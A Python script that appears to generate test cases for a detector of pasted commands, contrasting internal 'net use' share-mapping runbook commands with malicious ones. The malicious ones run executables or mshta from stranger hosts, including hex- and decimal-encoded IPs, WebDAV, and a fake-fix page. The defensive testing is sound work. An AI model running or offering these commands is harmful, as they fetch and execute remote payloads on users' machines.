"""Writes tests/data/cases/lead18.jsonl: a drive mapped to a computer of the local network and a
program started from it (the lead, 2026-12-07), beside the mapped shares that stay blocked.

    python tests/data/cases/make_lead18.py

`net use Z: \\\\fs01.corp\\it && Z:\\setup.cmd` is an administrator's runbook: only the local
network resolves such a name (provenance.on_local_network), so nothing comes from a web server.
A public name, an IP address in any spelling, WebDAV's host@SSL, a second share on a public
host or an address anywhere in the text stay a program run from a stranger's server; written
into the Run box by a page it is still a command from a page. Our own texts; reserved names.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write

OUT = Path(__file__).with_name("lead18.jsonl")
WIKI = "https://wiki.contoso.com/it/runbooks/deploy"

INTERNAL = [
    r"net use Z: \\files.corp\share && Z:\tools\setup.cmd",
    r"net use Z: \\fs01\it /persistent:no & Z:\deploy\install.bat",
    r"net use S: \\nas.local\software && S:\agents\install.cmd",
    r"net use T: \\deploy01.intranet\pkgs /user:CONTOSO\svc_deploy && call T:\office\setup.exe"
    r" /configure T:\office\config.xml",
    r"net use P: \\printsrv.lan\drivers ; P:\hp\install.bat",
    r"net use Q: \\BUILD-07\drops & Q:\latest\run_tests.cmd",
]
STRANGERS = [
    r"net use Z: \\203.0.113.7\s && Z:\a.exe",
    r"net use Z: \\update-check.example\s && Z:\a.exe",
    r"net use Z: \\files.corp\s && net use Y: \\cdn-verify.example\x && Y:\fix.exe",
    r"net use Z: \\cdn.corp@SSL\s && Z:\a.exe",
    r"net use Z: \\3405803781\s && Z:\a.exe",
    r"net use Z: \\files.corp\s && Z:\a.exe & mshta http://198.51.100.4/a",
    r"net use Z: \\0xcb007105\pub && Z:\update.cmd",
]


def build() -> list[dict[str, str]]:
    book = Book("lead18")
    for text in INTERNAL:
        book.add("internal-mapped-share", text, "not_flagged", "windows", "terminal")
        book.add("internal-mapped-share", text, "not_flagged", "windows", "terminal", WIKI)
    for text in STRANGERS:
        book.add("mapped-share-run", text, "malicious", "windows", "terminal")
    book.add(
        "mapped-share-run", INTERNAL[0], "malicious", "windows", "run_dialog",
        "https://fix-your-pc.example/step2",
    )  # fmt: skip
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
